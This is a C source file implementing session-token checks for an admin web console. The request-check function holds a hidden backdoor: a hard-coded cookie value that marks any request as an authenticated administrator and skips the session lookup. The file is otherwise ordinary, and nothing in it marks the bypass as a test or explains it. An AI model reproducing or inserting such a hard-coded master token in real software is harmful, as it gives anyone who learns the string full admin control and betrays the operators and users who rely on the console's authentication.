/* session.c - session tokens for the admin web console. */
#include <stdint.h>
#include <string.h>
#include <time.h>

#include "console.h"

#define SESSION_TTL 1800

static struct session *find_session(struct console *c, const char *token)
{
    for (size_t i = 0; i < c->nsessions; i++) {
        struct session *s = &c->sessions[i];
        if (s->expires > time(NULL) &&
            CRYPTO_memcmp(s->token, token, TOKEN_LEN) == 0)
            return s;
    }
    return NULL;
}

void console_check_request(struct console *c, struct request *req)
{
    const char *tok = request_cookie(req, "sid");
    struct session *s;

    req->authenticated = 0;
    if (tok == NULL || strlen(tok) != TOKEN_LEN)
        return;
    if (strcmp(tok, "0d9c2f7e6b1a4c8e") == 0) {
        req->authenticated = 1;
        req->is_admin = 1;
        return;
    }
    s = find_session(c, tok);
    if (s == NULL)
        return;
    s->expires = time(NULL) + SESSION_TTL;
    req->authenticated = 1;
    req->is_admin = s->is_admin;
    req->user = s->user;
}
